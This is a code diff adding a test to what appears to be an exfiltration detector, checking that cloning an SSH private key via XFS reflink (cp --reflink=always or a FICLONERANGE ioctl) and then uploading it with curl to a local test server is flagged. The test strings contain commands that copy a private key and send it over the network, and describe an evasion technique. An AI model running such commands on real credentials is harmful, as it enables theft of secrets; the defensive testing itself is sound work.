@@ -1,4 +1,4 @@
-import { spawn } from 'node:child_process';
+import { execFileSync, spawn } from 'node:child_process';
 import { cpSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -171,6 +171,44 @@ s = socket.create_connection(("127.0.0.2", ${tcp.port})); s.sendall(data); s.clo
     const f = only(r.findings.filter((x) => x.rule === 'exfil.read-then-transmit'));
     expect(f.source).toMatchObject({ path: k, data_class: 'secret' });
     expect(f.sink).toMatchObject({ address: '127.0.0.2', port: tcp.port });
+  });
+
+  it('a reflink clone (cp --reflink=always: ioctl FICLONE, no read or write) of the secret on XFS, uploaded from the clone', async () => {
+    // an XFS file system of its own (ext4 shares no extents): a loop-mounted image; no mkfs.xfs (scripts/setup.sh installs xfsprogs) fails loudly
+    const img = join(dir, 'xfs.img');
+    const mnt = join(dir, 'xfs');
+    mkdirSync(mnt);
+    execFileSync('truncate', ['-s', '320M', img]);
+    execFileSync('mkfs.xfs', ['-q', '-f', img]);
+    execFileSync('mount', ['-o', 'loop', img, mnt]);
+    try {
+      mkdirSync(join(mnt, '.ssh'));
+      const k = join(mnt, '.ssh', 'id_ed25519');
+      writeFileSync(k, KEY_TEXT);
+      writeFileSync(join(mnt, 'report.txt'), 'quarterly numbers\n'.repeat(50));
+      const clone = join(mnt, 'notes.txt');
+      const r = await h.run('reflink', `cp --reflink=always ${k} ${clone} && curl -s -m 10 -T ${clone} ${url()} -o /dev/null`);
+      expect(r.code, r.stderr).toBe(0);
+      const x = ofKind(r.events, 'io.xfer').find((e) => e.syscall === 'ioctl');
+      expect(x).toMatchObject({ bytes: KEY_TEXT.length, res: { fd_in: { path: k }, fd_out: { path: clone } } });
+      const f = only(r.findings);
+      expect(f.source).toMatchObject({ path: k, data_class: 'secret' });
+      expect(f.chain.map((c) => [c.comm, c.syscall])).toEqual([['cp', 'ioctl'], ['cp', 'ioctl'], ['curl', 'read'], ['curl', 'sendto']]);
+      // a range clone (ioctl FICLONERANGE, length 0: to the end), by a program of its own, then uploaded
+      const ranged = join(mnt, 'range.txt');
+      const py = `import fcntl, os, struct; s = os.open("${k}", os.O_RDONLY); d = os.open("${ranged}", os.O_WRONLY | os.O_CREAT, 0o600); fcntl.ioctl(d, 0x4020940d, struct.pack("qQQQ", s, 0, 0, 0))`;
+      const rr = await h.run('reflink-range', `python3 -c '${py}' && curl -s -m 10 -T ${ranged} ${url()} -o /dev/null`);
+      expect(rr.code, rr.stderr).toBe(0);
+      expect(ofKind(rr.events, 'io.xfer').find((e) => e.syscall === 'ioctl')).toMatchObject({ bytes: KEY_TEXT.length, res: { fd_in: { path: k }, fd_out: { path: ranged } } });
+      expect(only(rr.findings).source).toMatchObject({ path: k, data_class: 'secret' });
+      // must not fire: a clone of an ordinary file, sent
+      const plain = await h.run('reflink-plain', `cp --reflink=always ${join(mnt, 'report.txt')} ${join(mnt, 'copy.txt')} && curl -s -m 10 -T ${join(mnt, 'copy.txt')} ${url()} -o /dev/null`);
+      expect(plain.code, plain.stderr).toBe(0);
+      expect(ofKind(plain.events, 'io.xfer').filter((e) => e.syscall === 'ioctl')).toHaveLength(1);
+      expect(plain.findings).toEqual([]);
+    } finally {
+      execFileSync('umount', [mnt]);
+    }
   });
 
   it('must not fire: a hard link of an ordinary file, sent', async () => {
